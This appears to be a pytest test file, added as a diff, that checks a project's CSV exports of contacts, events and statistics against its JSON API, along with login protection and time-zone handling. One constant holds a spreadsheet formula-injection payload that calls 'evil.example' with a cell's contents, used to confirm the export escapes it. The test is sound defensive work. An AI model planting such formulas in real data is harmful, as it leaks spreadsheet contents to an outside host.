@@ -1,0 +1,162 @@
+"""People, events and numbers as CSV: what the API says, in a spreadsheet's words, for whoever is logged in."""
+
+import asyncio
+import json
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+
+from pamosnik import csv_cells
+from pamosnik._sqlite import Connection
+from pamosnik.clock import VirtualClock
+from pamosnik.config import Config
+from pamosnik.daemon.downloads import FILES, ROWS_AT_ONCE
+from pamosnik.ids import new_id
+from pamosnik.security import tokens
+from pamosnik.services import sheets
+from pamosnik.store import accounts, api_tokens, connections, contacts
+from pamosnik.store.api_tokens import ApiToken
+from pamosnik.store.database import open_database
+from tests.daemon import events
+from tests.daemon.machine import home_and_fake, running
+from tests.daemon.site import Site, logged_in, open_site
+
+pytestmark = pytest.mark.anyio
+NOW = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)
+TOKEN = "pamo_of-this-test"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "prize")'
+MORE = 2 * ROWS_AT_ONCE
+"""So many people of each of two connections; of the first one, some more that really came."""
+
+
+@pytest.fixture(scope="module")
+def settings(tmp_path_factory: pytest.TempPathFactory) -> Config:
+    async def fill(folder: Path) -> Config:
+        async with home_and_fake(folder) as (settings, fake), running(settings, fake) as shop:
+            await shop.deliver(events.change(events.comment("901", "price", username="anna")))
+            await shop.works()
+            await shop.deliver(events.talk(events.message("902", FORMULA), events.message("901", "price")))
+            await shop.works()
+            await shop.writer.write(_many)
+            return settings
+
+    return asyncio.run(fill(tmp_path_factory.mktemp("downloads")))
+
+
+def _many(conn: Connection) -> None:
+    account, now = accounts.every(conn)[0].id, NOW - timedelta(days=1)
+    conn.execute(
+        "INSERT INTO connections (connection_id, account_id, ig_id, username, scopes, status, connected_at)"
+        " VALUES ('K2', ?, '178414', 'tulip', '[]', 'active', 0)",
+        (account,),
+    )
+    for connection in [one.id for one in connections.of_account(conn, account)]:
+        for number in range(MORE):
+            contacts.meet(
+                conn,
+                account_id=account,
+                connection_id=connection,
+                igsid=f"77{number:04}",
+                username=f"user{number}",
+                now=now,
+            )
+    (someone,) = contacts.find(conn, account, "902")
+    conn.execute("INSERT INTO contact_fields VALUES (?, ?, 'size', '+1 and more', 0, 0)", (account, someone))
+    token = ApiToken(new_id(now), account, "test", now, None)
+    api_tokens.insert(conn, token, tokens.token_hash(TOKEN))
+
+
+async def _rows(site: Site, name: str) -> list[dict[str, str]]:
+    answer = await site.ask("GET", f"/{name}.csv", {"cookie": await logged_in(site)})
+    assert answer.status == 200
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    # One in the morning in Warsaw, so the first of December.
+    assert answer.headers["content-disposition"] == f'attachment; filename="{name}-2026-12-01.csv"'
+    heading, *rows = csv_cells.read(answer.body)
+    return [dict(zip(heading, row, strict=True)) for row in rows]
+
+
+async def _told(site: Site, path: str) -> Any:
+    answer = await site.ask("GET", f"/api/v1/{path}", {"authorization": f"Bearer {TOKEN}"})
+    assert answer.status == 200, answer
+    return json.loads(answer.body)
+
+
+def _here(instant: str | None) -> str:
+    if instant is None:
+        return ""
+    return datetime.fromisoformat(instant).astimezone(ZoneInfo("Europe/Warsaw")).isoformat()
+
+
+async def test_people(settings: Config) -> None:
+    async with open_site(settings, VirtualClock(NOW)) as site:
+        rows = {row["id"]: row for row in await _rows(site, "people")}
+        told = await _told(site, "contacts?limit=1000")
+        told += await _told(site, f"contacts?limit=1000&before={_place(site, told[-1]['id'])}")
+    assert len(told) == 2 * MORE + 2
+    assert set(rows) == {person["id"] for person in told}
+    for person in told:
+        row = rows[person["id"]]
+        assert row["username"] == (person["username"] or "")
+        assert row["igsid"] == person["igsid"]
+        assert row["connection"] == person["connection"]
+        assert row["fields.size"] == person["fields"].get("size", "")
+        assert row["window_open_until"] == _here(person["window_open_until"])
+        assert row["opted_out"] == "false"
+    assert "+1 and more" in {row["fields.size"] for row in rows.values()}
+
+
+def _place(site: Site, contact_id: str) -> str:
+    seen = contacts.last_seen(site.reader.connection, contact_id)
+    assert seen is not None
+    return f"{int(seen.timestamp() * 1000)}-{contact_id}"
+
+
+async def test_events(settings: Config) -> None:
+    async with open_site(settings, VirtualClock(NOW)) as site:
+        rows = await _rows(site, "events")
+        told = await _told(site, "events")
+        raw = await site.ask("GET", "/events.csv", {"cookie": await logged_in(site)})
+    assert [row["id"] for row in rows] == [event["id"] for event in told]
+    for row, event in zip(rows, told, strict=True):
+        assert row["at"] == _here(event["at"])
+        assert row["from.igsid"] == event["from"]["igsid"]
+        for name in ("text", "verdict", "flow", "reason", "connection"):
+            assert row[name] == (event[name] or ""), name
+    assert FORMULA in {row["text"] for row in rows}
+    assert b",\"'=HYPERLINK(" in raw.body
+    assert b',"=' not in raw.body
+
+
+async def test_numbers(settings: Config) -> None:
+    async with open_site(settings, VirtualClock(NOW)) as site:
+        rows = await _rows(site, "stats")
+        told = (await _told(site, "stats"))["flows"]
+    assert len(told) >= 2
+    for row, flow in zip(rows, told, strict=True):
+        for name in ("flow", "connection", "started", "completed", "sent", "failed"):
+            assert row[name] == str(flow[name]), name
+
+
+@pytest.mark.parametrize("name", FILES)
+async def test_only_whoever_is_logged_in_gets_them(settings: Config, name: str) -> None:
+    async with open_site(settings, VirtualClock(NOW)) as site:
+        for headers in ({}, {"cookie": "pamosnik_session=x"}, {"authorization": f"Bearer {TOKEN}"}):
+            answer = await site.ask("GET", f"/{name}.csv", headers)
+            assert (answer.status, answer.headers["location"], answer.body) == (303, "/login", b"")
+        asked = await site.ask("HEAD", f"/{name}.csv", {"cookie": await logged_in(site)})
+        assert (asked.status, asked.body) == (200, b"")
+        assert f'filename="{name}-' in asked.headers["content-disposition"]
+
+
+def test_an_account_without_anything_has_its_headings(tmp_path: Path) -> None:
+    path = tmp_path / "pamosnik.db"
+    with open_database(path, migrate=True) as database:
+        nobody = accounts.Account("A", "Rosa", "rosa@shop.example", "Europe/Warsaw", NOW)
+        for sheet in (sheets.PEOPLE, sheets.EVENTS, sheets.NUMBERS):
+            columns = sheet.columns(database.connection, nobody)
+            assert columns[0] in ("username", "at", "flow")
+            assert sheet.part(database.connection, nobody, columns, None, 5).rows == []
